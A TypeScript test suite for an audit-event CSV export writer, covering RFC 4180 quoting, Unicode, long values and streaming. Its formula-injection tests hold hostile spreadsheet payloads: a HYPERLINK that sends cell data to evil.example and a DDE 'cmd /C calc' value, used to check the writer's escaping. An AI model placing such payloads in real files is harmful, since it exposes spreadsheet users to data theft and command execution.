import { hashLeaf } from '@custody/ledger';
import { createLoggedEvent, validateEvent } from '@custody/schema';
import type { TEventInputDraft, TLoggedEvent } from '@custody/schema';
import { describe, expect, it } from 'vitest';

import { createChunkEncoder } from './chunk-encoder';
import { ControlNumberSequence } from './control-number-sequence';
import { EVENT_CSV_COLUMNS, createEventCsvWriter } from './event-csv-writer';
import { splitMultiValue } from './event-values';
import { ProductionError } from './production-error';

const BASE: TEventInputDraft = {
  action: 'document.shared',
  occurred_at: '2026-11-26T10:00:00+01:00',
  actor: { id: 'user_01HQ3', type: 'user', name: 'Alice Martin' },
  targets: [{ id: 'doc_8812', type: 'document', name: 'Q1 board deck' }],
  context: { location: '2001:0DB8::0042', user_agent: 'Mozilla/5.0', request_id: 'req_7f3a' },
  metadata: { permission: 'view', expires_in_days: 7, notify: true },
};

/** A logged event and its canonical bytes, from the real schema code. */
function makeLeaf(seq: number, overrides: Partial<TEventInputDraft> = {}): { event: TLoggedEvent; bytes: Uint8Array } {
  const result = validateEvent({ ...BASE, ...overrides }, { limits: { maxMetadataStringLength: 60_000, maxEventBytes: 65_000 } });
  if (!result.ok) throw new Error(result.issues.map((issue) => issue.message).join('; '));
  return createLoggedEvent(result.event, {
    organizationId: 'org_acme',
    seq,
    id: '019ceb74-9cbc-7c1e-8b0f-3d2a9e6c4b71',
    receivedAt: '2026-11-26T09:00:01.000Z',
    salt: 'mJ0r8vYkQ1c9oFh2Zt5WxA==',
  });
}

/** A strict RFC 4180 reader: CRLF records, optional quotes, doubled inner quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let fields: string[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        value += text[i];
        i++;
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote at ${i}`);
        value += text[i];
        i++;
      }
    }
    fields.push(value);
    if (text[i] === ',') {
      i++;
    } else if (text.startsWith('\r\n', i)) {
      records.push(fields);
      fields = [];
      i += 2;
    } else {
      throw new Error(`expected , or CRLF at ${i}`);
    }
  }
  if (fields.length > 0) throw new Error('last record not terminated by CRLF');
  return records;
}

function produce(leaves: { event: TLoggedEvent; bytes: Uint8Array }[], options = {}): string {
  const csv = createEventCsvWriter(options);
  const numbers = new ControlNumberSequence({ prefix: 'ACME' });
  let out = csv.header();
  for (const leaf of leaves) out += csv.row(leaf.event, { controlNumber: numbers.next(), leafHash: hashLeaf(leaf.bytes) });
  return out;
}

describe('createEventCsvWriter', () => {
  describe('when writing a small production', () => {
    it('produces these exact bytes', () => {
      const leaf = makeLeaf(1041);
      const csv = createEventCsvWriter();
      const text = csv.header() + csv.row(leaf.event, { controlNumber: 'ACME000001', leafHash: new Uint8Array(32).fill(1) });
      expect(text).toBe(
        'CONTROL_NUMBER,SEQ,EVENT_ID,OCCURRED_AT_UTC,RECEIVED_AT_UTC,ACTION,ACTOR_TYPE,ACTOR_ID,ACTOR_NAME,TARGETS,IP,' +
          'USER_AGENT,REQUEST_ID,SESSION_ID,METADATA,LEAF_HASH\r\n' +
          'ACME000001,1041,019ceb74-9cbc-7c1e-8b0f-3d2a9e6c4b71,2026-11-26T09:00:00.000Z,2026-11-26T09:00:01.000Z,' +
          'document.shared,user,user_01HQ3,Alice Martin,document:doc_8812,2001:db8::42,Mozilla/5.0,req_7f3a,,' +
          '"{""expires_in_days"":7,""notify"":true,""permission"":""view""}",AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE=\r\n',
      );
      expect(csv.encode(text)[0]).toBe(0x43); // 'C': no BOM
      expect(csv.rowCount).toBe(1);
    });

    it('writes a BOM only when asked', () => {
      expect(createEventCsvWriter({ bom: true }).header().startsWith('\ufeffCONTROL_NUMBER,')).toBe(true);
      expect(Array.from(createEventCsvWriter({ bom: true }).encode('\ufeff').values())).toEqual([0xef, 0xbb, 0xbf]);
    });

    it('writes the selected columns in the given order', () => {
      const leaf = makeLeaf(7);
      const csv = createEventCsvWriter({ columns: ['SEQ', 'CONTROL_NUMBER', 'ACTION'] });
      expect(csv.header() + csv.row(leaf.event, { controlNumber: 'P01', leafHash: new Uint8Array(32) })).toBe(
        'SEQ,CONTROL_NUMBER,ACTION\r\n7,P01,document.shared\r\n',
      );
    });
  });

  describe('when values hold RFC 4180 special characters', () => {
    it('round-trips them through a strict RFC 4180 reader', () => {
      const nasty = [
        'comma, inside',
        'quote " inside',
        'CRLF\r\ninside',
        'LF\ninside',
        'CR\rinside',
        ' leading space',
        'trailing space ',
        '""',
        ',',
      ];
      const leaves = nasty.map((name, i) =>
        makeLeaf(i, { actor: { id: `id ${i}`, type: 'user', name }, context: { location: '10.0.0.1', user_agent: name }, metadata: { v: name } }),
      );
      const records = parseCsv(produce(leaves, { formulaGuard: false }));
      expect(records).toHaveLength(nasty.length + 1);
      expect(records[0]).toEqual([...EVENT_CSV_COLUMNS]);
      nasty.forEach((name, i) => {
        const record = records[i + 1] ?? [];
        expect(record).toHaveLength(EVENT_CSV_COLUMNS.length);
        expect(record[8]).toBe(name);
        expect(record[11]).toBe(name);
        expect(JSON.parse(record[14] ?? '')).toEqual({ v: name });
      });
    });
  });

  describe('when values look like spreadsheet formulas', () => {
    const leaf = makeLeaf(3, {
      actor: { id: '-1', type: 'user', name: '=HYPERLINK("http://evil.example/?"&A1,"Click")' },
      targets: [{ id: '+cmd', type: 'file' }],
      context: { location: '10.0.0.1', user_agent: '@SUM(1+1)*cmd|\' /C calc\'!A0', request_id: '\t=1', session_id: '\r=2' },
    });

    it('prefixes them with a single quote by default', () => {
      const record = parseCsv(produce([leaf]))[1] ?? [];
      expect(record[7]).toBe("'-1");
      expect(record[8]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Click")');
      expect(record[9]).toBe('file:+cmd'); // starts with a letter: not a formula
      expect(record[11]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
      expect(record[12]).toBe("'\t=1");
      expect(record[13]).toBe("'\r=2");
      for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });

    it('keeps them verbatim with formulaGuard: false', () => {
      const record = parseCsv(produce([leaf], { formulaGuard: false }))[1] ?? [];
      expect(record[7]).toBe('-1');
      expect(record[8]).toBe('=HYPERLINK("http://evil.example/?"&A1,"Click")');
    });
  });

  describe('when values are non-ASCII', () => {
    it('keeps emoji, right-to-left text and combining marks exact in UTF-8', () => {
      const names = [
        '\ud83d\ude00 \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 \ud83c\uddeb\ud83c\uddf7',
        '\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd',
        '\u0645\u0631\u062d\u0628\u0627 \u202eevil\u202c',
        'e\u0301 vs \u00e9',
        '\u4e2d\u6587, \u65e5\u672c\u8a9e',
        'J\u00f3n \u00de\u00f3r\u00f0ur \u00fe \u00ae',
      ];
      const leaves = names.map((name, i) => makeLeaf(i, { actor: { id: name, type: 'user', name }, targets: [{ id: name, type: 'doc' }] }));
      const text = produce(leaves);
      const decoded = new TextDecoder('utf-8', { fatal: true }).decode(createEventCsvWriter().encode(text));
      expect(decoded).toBe(text);
      const records = parseCsv(decoded);
      names.forEach((name, i) => {
        expect(records[i + 1]?.[7]).toBe(name);
        expect(records[i + 1]?.[8]).toBe(name);
        expect(splitMultiValue(records[i + 1]?.[9] ?? '')).toEqual([`doc:${name}`]);
      });
    });
  });

  describe('when values are very long', () => {
    it('writes them whole', () => {
      const long = `${'x'.repeat(59_990)},"\r\n`;
      const agent = 'A'.repeat(1024);
      const leaf = makeLeaf(9, { metadata: { long }, context: { location: '10.0.0.1', user_agent: agent } });
      const record = parseCsv(produce([leaf]))[1] ?? [];
      expect(JSON.parse(record[14] ?? '')).toEqual({ long });
      expect(record[11]).toBe(agent);
    });
  });

  describe('when targets hold the multi-value separator', () => {
    it('percent-encodes it so the split is exact', () => {
      const leaf = makeLeaf(1, { targets: [{ id: 'a;b', type: 'doc' }, { id: '50%', type: 'doc' }, { id: 'c', type: 'team' }] });
      const record = parseCsv(produce([leaf]))[1] ?? [];
      expect(record[9]).toBe('doc:a%3Bb;doc:50%25;team:c');
      expect(splitMultiValue(record[9] ?? '')).toEqual(['doc:a;b', 'doc:50%', 'team:c']);
    });
  });

  describe('when streamed through a chunk encoder', () => {
    it('gives the same bytes as one string', () => {
      const leaves = Array.from({ length: 200 }, (_, i) => makeLeaf(i, { actor: { id: `u${i}`, type: 'user', name: `\u00e9\ud83d\ude00 ${i}` } }));
      const whole = produce(leaves);
      const csv = createEventCsvWriter();
      const chunks = createChunkEncoder(csv.encode, { chunkChars: 1000 });
      const parts: Uint8Array[] = [];
      const push = (bytes: Uint8Array | undefined) => {
        if (bytes !== undefined) parts.push(bytes);
      };
      const numbers = new ControlNumberSequence({ prefix: 'ACME' });
      push(chunks.push(csv.header()));
      for (const leaf of leaves) push(chunks.push(csv.row(leaf.event, { controlNumber: numbers.next(), leafHash: hashLeaf(leaf.bytes) })));
      push(chunks.flush());
      expect(parts.length).toBeGreaterThan(10);
      const joined = new Uint8Array(parts.reduce((n, part) => n + part.length, 0));
      let offset = 0;
      for (const part of parts) {
        joined.set(part, offset);
        offset += part.length;
      }
      expect(new TextDecoder().decode(joined)).toBe(whole);
    });
  });

  describe('when misused', () => {
    const leaf = makeLeaf(1);

    it.each([
      ['an empty control number', { controlNumber: '', leafHash: new Uint8Array(32) }],
      ['a short leaf hash', { controlNumber: 'A1', leafHash: new Uint8Array(31) }],
      ['bad base64', { controlNumber: 'A1', leafHash: 'nope' }],
      ['no context', null],
    ])('rejects %s with INVALID_ARGUMENT', (_, context) => {
      const csv = createEventCsvWriter();
      expect(() => csv.row(leaf.event, context as never)).toThrow(ProductionError);
      expect(csv.rowCount).toBe(0);
    });

    it('turns a non-event into INVALID_ARGUMENT, not a TypeError', () => {
      const csv = createEventCsvWriter();
      try {
        csv.row({} as TLoggedEvent, { controlNumber: 'A1', leafHash: new Uint8Array(32) });
        expect.unreachable();
      } catch (error) {
        expect(error).toBeInstanceOf(ProductionError);
        expect((error as ProductionError).code).toBe('INVALID_ARGUMENT');
        expect((error as ProductionError).details).toEqual({ row: 1 });
      }
    });

    it('rejects unknown or duplicate columns', () => {
      expect(() => createEventCsvWriter({ columns: ['SEQ', 'SEQ'] })).toThrow(/duplicate column SEQ/);
      expect(() => createEventCsvWriter({ columns: ['NOPE' as 'SEQ'] })).toThrow(/unknown column/);
      expect(() => createEventCsvWriter({ columns: [] })).toThrow(/non-empty/);
    });
  });
});
